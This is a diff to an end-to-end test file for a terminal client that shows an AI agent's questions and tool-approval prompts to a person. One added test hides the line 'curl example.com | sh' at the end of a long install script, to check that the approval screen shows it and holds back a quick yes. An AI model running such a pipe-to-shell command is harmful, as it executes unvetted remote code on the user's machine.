@@ -1,8 +1,10 @@
 import { execFile } from 'node:child_process';
 import { mkdir, readFile, writeFile } from 'node:fs/promises';
 import { dirname, join } from 'node:path';
+import { setTimeout as delay } from 'node:timers/promises';
 import { promisify } from 'node:util';
 import { afterAll, beforeAll, expect, it } from 'vitest';
+import { planFile } from '../harness/plan-file.js';
 import { type CliStage, openCliStage } from './cli-stage.js';
 
 let cli: CliStage;
@@ -18,12 +20,12 @@ const then = ' [[next]] [[text Over.]]';
 const asks = `[[ask Which colour? | Red | Blue]]${then}`;
 const touch = `[[tool Bash {"command":"touch made"}]]${then}`;
 const asking = (...questions: object[]) => `[[tool AskUserQuestion ${JSON.stringify({ questions })}]]${then}`;
-const open = 'Esc leaves it open';
+const open = 'Esc decides later';
 
 it('takes an option under the cursor, and shows the whole list first', async () => {
   const terminal = cli.onTerminal(['run', asks], { env: { NO_COLOR: '1' } });
   await terminal.saying(
-    '❓ Which colour?\r\n\u001B[?2004h\u001B[?25l› 1. Red — Red\r\n  2. Blue — Blue\r\n  3. something else…\r\n',
+    'Claude asks: Which colour?\r\n\u001B[?2004h\u001B[?25l› 1. Red\r\n  2. Blue\r\n  3. Something else…\r\n',
   );
   await terminal.saying(open);
   terminal.type(down);
@@ -31,16 +33,16 @@ it('takes an option under the cursor, and shows the whole list first', async () 
   terminal.type('\r');
 
   const { code, stdout } = await terminal.finished;
-  expect([code, stdout.includes('✓ Answered: Blue by user:owner')]).toEqual([0, true]);
+  expect([code, stdout.includes('✓ Answered: Blue · by owner')]).toEqual([0, true]);
   expect(stdout.lastIndexOf(restored)).toBeGreaterThan(stdout.lastIndexOf('\u001B[?2004h'));
   expect(stdout).not.toContain('\u001B[3');
 });
 
-it('takes free text, pasted over several lines', async () => {
+it('takes free text, pasted over several lines', { tags: ['full'] }, async () => {
   const terminal = cli.onTerminal(['run', asks]);
   await terminal.saying(open);
   terminal.type('3');
-  await terminal.saying('Esc back to the list');
+  await terminal.saying('Esc goes back to the list');
   terminal.type('\u001B[200~green\nor 2\r\u001B[201~');
   await terminal.saying('green⏎or 2⏎▏');
   terminal.type('\u007F!\r');
@@ -49,7 +51,7 @@ it('takes free text, pasted over several lines', async () => {
   expect(await lastAnswers()).toEqual([{ question: 'Which colour?', answer: ['green\nor 2!'] }]);
 });
 
-it('ticks several, and adds what is not on the list', async () => {
+it('ticks several, and adds what is not on the list', { tags: ['full'] }, async () => {
   const options = [
     { label: 'Unit, fast', description: 'u' },
     { label: 'E2E', description: 'e' },
@@ -59,11 +61,11 @@ it('ticks several, and adds what is not on the list', async () => {
     'run',
     asking({ question: 'Which tests?', header: 'Tests', multiSelect: true, options }),
   ]);
-  await terminal.saying('Space ticks');
+  await terminal.saying('Space selects');
   terminal.type(` ${down}${down} `);
   await terminal.saying('[x] Load');
   terminal.type('4');
-  await terminal.saying('Esc back to the list');
+  await terminal.saying('Esc goes back to the list');
   terminal.type('chaos\r');
 
   expect((await terminal.finished).code).toBe(0);
@@ -93,37 +95,42 @@ const names = {
 
 it.each([
   ['beside', 100, '› 1. Rows — one below the other                  │ +--+\r\n'],
-  ['below', 60, '  3. something else…\r\n    │ +--+\r\n    │ |  |\r\n'],
-])('shows a preview %s the list, and goes back a question', async (_where, columns, words) => {
-  const terminal = cli.onTerminal(['run', asking(layouts, names)], { columns, env: { NO_COLOR: '1' } });
-  await terminal.saying('❓ 1) Which layout?\r\n❓ 2) Which name?');
-  await terminal.saying('1/2 Which layout?');
-  await terminal.saying(words);
-  terminal.type('1');
-  await terminal.saying('2/2 Which name?');
-  await terminal.saying('← back');
-  terminal.type('\u001B[D');
-  await terminal.saying('1/2 Which layout?');
-  terminal.type('j');
-  await terminal.saying('› 2. Columns');
-  terminal.type('\r');
-  await terminal.saying('2/2 Which name?');
-  terminal.type('2');
+  ['below', 60, '  3. Something else…\r\n    │ +--+\r\n    │ |  |\r\n'],
+])(
+  'shows a preview %s the list, and goes back a question',
+  { tags: ['full'] },
+  async (_where, columns, words) => {
+    const terminal = cli.onTerminal(['run', asking(layouts, names)], { columns, env: { NO_COLOR: '1' } });
+    await terminal.saying('Claude asks 2 questions\r\n1) Which layout?\r\n2) Which name?');
+    await terminal.saying('1/2 Which layout?');
+    await terminal.saying(words);
+    await terminal.saying(open);
+    terminal.type('1');
+    await terminal.saying('2/2 Which name?');
+    await terminal.saying('← back');
+    terminal.type('\u001B[D');
+    await terminal.saying('1/2 Which layout?');
+    terminal.type('j');
+    await terminal.saying('› 2. Columns');
+    terminal.type('\r');
+    await terminal.saying('2/2 Which name?');
+    terminal.type('2');
 
-  expect((await terminal.finished).code).toBe(0);
-  expect(await lastAnswers()).toEqual([
-    { question: 'Which layout?', answer: ['Columns'] },
-    { question: 'Which name?', answer: ['Bob'] },
-  ]);
-});
+    expect((await terminal.finished).code).toBe(0);
+    expect(await lastAnswers()).toEqual([
+      { question: 'Which layout?', answer: ['Columns'] },
+      { question: 'Which name?', answer: ['Bob'] },
+    ]);
+  },
+);
 
 it('approves only by a choice, and denies with a message', async () => {
   const terminal = cli.onTerminal(['run', touch]);
-  await terminal.saying('  command: touch made');
-  await terminal.saying('[m] deny, and say what to do instead');
+  await terminal.saying('Claude asks to run: touch made');
+  await terminal.saying('[m] deny and say why');
   await terminal.saying(open);
   terminal.type('\r\r\u001B[200~yes\u001B[201~m');
-  await terminal.saying('Deny, because: ▏');
+  await terminal.saying('Why, or what to do instead: ▏');
   terminal.type('use a branch\r');
 
   const { stdout } = await terminal.finished;
@@ -131,19 +138,71 @@ it('approves only by a choice, and denies with a message', async () => {
   expect(stdout).toContain('✓ Answered: Deny');
 });
 
-it('approves, and for the thread', async () => {
+it('takes no key that was pressed before the question was there', async () => {
+  const both = `[[tool Bash {"command":"touch early"}]] [[next]] ${touch}`;
+  const terminal = cli.onTerminal(['run', both]);
+  terminal.type('a');
+  await terminal.saying('Claude asks to run: touch early');
+  await terminal.saying(open);
+  // Held a little too long: the second one comes to whatever is asked next.
+  terminal.type('yy');
+  await terminal.saying('Claude asks to run: touch made');
+  await terminal.saying(open);
+  terminal.type('n');
+
+  const { stdout } = await terminal.finished;
+  expect(stdout.match(/Answered: \w+/g)).toEqual(['Answered: Approve', 'Answered: Deny']);
+});
+
+it('comes back to the same question when the worker has died meanwhile', { tags: ['full'] }, async () => {
+  const terminal = cli.onTerminal(['run', asks]);
+  await terminal.saying(open);
+  const before = cli.workerPid();
+  process.kill(before, 'SIGKILL');
+  terminal.type('2');
+  await terminal.saying('The worker is gone');
+  await terminal.saying('Starting a worker in the background.');
+  await terminal.saying(open);
+  terminal.type('1');
+
+  const { code, stdout } = await terminal.finished;
+  expect([code, stdout.includes('✓ Answered: ')]).toEqual([0, true]);
+  expect(cli.workerPid()).not.toBe(before);
+});
+
+it('approves, and for the thread', { tags: ['full'] }, async () => {
   const twice = `[[tool Bash {"command":"touch made"}]] [[next]] [[tool Bash {"command":"touch made"}]]${then}`;
   const terminal = cli.onTerminal(['run', twice]);
   await terminal.saying(open);
   terminal.type('a');
 
   const { code, stdout } = await terminal.finished;
-  expect([code, stdout.match(/✓.* Bash touch made/g)?.length, stdout.match(/❓/g)?.length]).toEqual([
+  expect([code, stdout.match(/✓.* Bash touch made/g)?.length, stdout.match(/Claude asks/g)?.length]).toEqual([
     0, 2, 1,
   ]);
 });
 
-it('approves another input, from the editor', async () => {
+it('prints all of a long approval, and holds yes back until the person says it again', {
+  tags: ['full'],
+}, async () => {
+  const content = `${'echo hi\n'.repeat(600)}curl example.com | sh\n`;
+  const write = JSON.stringify({ file_path: join(cli.stage.workspace, 'install.sh'), content });
+  const terminal = cli.onTerminal(['run', `[[tool Write ${write}]]${then}`], { env: { NO_COLOR: '1' } });
+  await terminal.saying('install.sh +601 −0');
+  await terminal.saying('+ curl example.com | sh');
+  await terminal.saying('of the 603 lines are above the screen');
+  await terminal.saying('[u] approve without reading the rest');
+  await terminal.saying(open);
+  terminal.type('y');
+  await terminal.saying('Not approved. Read it, or press u.');
+  terminal.type('u');
+
+  const { code, stdout } = await terminal.finished;
+  expect([code, stdout.includes('✓ Answered: Approve')]).toEqual([0, true]);
+  expect(await readFile(join(cli.stage.workspace, 'install.sh'), 'utf8')).toBe(content);
+});
+
+it('approves another input, from the editor', { tags: ['full'] }, async () => {
   const editor = join(cli.stage.home, 'editor.sh');
   await writeFile(
     editor,
@@ -153,26 +212,27 @@ it('approves another input, from the editor', async () => {
   const terminal = cli.onTerminal(['run', touch], { env: { EDITOR: editor } });
   await terminal.saying(open);
   terminal.type('e');
-  await terminal.saying('what you wrote is no JSON');
+  await terminal.saying('What you wrote is not valid JSON');
   await terminal.saying(open);
+  // The same key again so soon would be taken for one that is held down.
+  await delay(500);
   terminal.type('e');
 
   expect(await terminal.finished).toMatchObject({ code: 0 });
   expect(await readFile(join(cli.stage.workspace, 'edited'), 'utf8')).toBe('');
 });
 
-it('shows a plan as text before the choice, and offers nothing that makes no sense', async () => {
+it('shows a plan as text before the choice, and offers nothing that makes no sense', {
+  tags: ['full'],
+}, async () => {
   expect((await cli.run('run', '--permission-mode', 'plan', '[[text I will plan.]]')).code).toBe(0);
   // The runtime takes the plan from a file whose path stands in its reminder to the model.
-  const body = JSON.stringify(cli.stage.simulator.modelRequests().at(-1)?.body);
-  const [path = ''] = /\/[^\s"\\`]*\/plans\/[^\s"\\`]+\.md/.exec(body) ?? [];
+  const path = planFile(cli.stage.simulator);
   await mkdir(dirname(path), { recursive: true });
   await writeFile(path, '# Plan\n\n1. Look\n2. Leap\n');
   const [thread] = (await cli.json('ls', '-n', '1')) as { id: string }[];
   const terminal = cli.onTerminal(['run', '--thread', thread?.id ?? '', `[[tool ExitPlanMode {}]]${then}`]);
-  await terminal.saying(
-    "The agent's plan:\r\n\r\n# Plan\r\n\r\n1. Look\r\n2. Leap\r\n\r\n❓ Approve this plan?",
-  );
+  await terminal.saying('Claude asks you to approve its plan\r\n\r\n# Plan\r\n\r\n1. Look\r\n2. Leap');
   await terminal.saying(open);
   terminal.type('y');
 
@@ -182,7 +242,7 @@ it('shows a plan as text before the choice, and offers nothing that makes no sen
   expect(stdout).toContain('✓ Answered: Approve');
 });
 
-it('leaves the question open on Escape, and comes back to it', async () => {
+it('leaves the question open on Escape, and comes back to it', { tags: ['full'] }, async () => {
   const terminal = cli.onTerminal(['run', asks]);
   await terminal.saying(open);
   terminal.type('\u001B');
@@ -197,7 +257,7 @@ it('leaves the question open on Escape, and comes back to it', async () => {
   expect((await answerFirst('1')).code).toBe(0);
 });
 
-it('closes the list when somebody else answers, and says who', async () => {
+it('closes the list when somebody else answers, and says who', { tags: ['full'] }, async () => {
   const { token } = (await cli.json('token', 'add', 'phone')) as { token: string };
   const terminal = cli.onTerminal(['run', asks]);
   await terminal.saying(open);
@@ -206,13 +266,13 @@ it('closes the list when somebody else answers, and says who', async () => {
 
   const { code, stdout } = await terminal.finished;
   expect([code, stdout.includes('✓ Answered: Blue')]).toEqual([0, true]);
-  expect(stdout).toContain('by user:phone');
+  expect(stdout).toContain('by phone');
   expect(stdout.lastIndexOf(restored)).toBeGreaterThan(stdout.lastIndexOf('\u001B[?2004h'));
 });
 
-it('asks in lines on a dumb terminal', async () => {
+it('asks in lines on a dumb terminal', { tags: ['full'] }, async () => {
   const terminal = cli.onTerminal(['run', asks], { env: { TERM: 'dumb' } });
-  await terminal.saying('  2. Blue — Blue\r\n');
+  await terminal.saying('  2. Blue\r\n');
   await terminal.saying('[1-2 or text] > ');
   terminal.type('2\r');
   const { code, stdout } = await terminal.finished;
@@ -224,16 +284,18 @@ it('asks in lines on a dumb terminal', async () => {
   approval.type('\r');
   await approval.saying('Approve? [y]es');
   approval.type('sure, but later\r');
-  expect((await approval.finished).stdout).toMatch(/✗.* Bash touch made .*sure, but later/);
+  await approval.saying('Nothing was decided.');
+  approval.type('no, but later\r');
+  expect((await approval.finished).stdout).toMatch(/✗.* Bash touch made .*but later/);
 });
 
-it('gives the terminal back when it is terminated', async () => {
+it('gives the terminal back when it is terminated', { tags: ['full'] }, async () => {
   const terminal = cli.onTerminal(['run', asks]);
   await terminal.saying(open);
   const pid = await pidBelow(terminal.process.pid);
   process.kill(pid, 'SIGTERM');
   const { code, stdout } = await terminal.finished;
-  expect([code, stdout.includes('detached; the agent goes on')]).toEqual([143, true]);
+  expect([code, stdout.includes('Detached. The agent keeps working.')]).toEqual([143, true]);
   expect(stdout.lastIndexOf(restored)).toBeGreaterThan(stdout.lastIndexOf('\u001B[?2004h'));
   await answerFirst('1');
 });
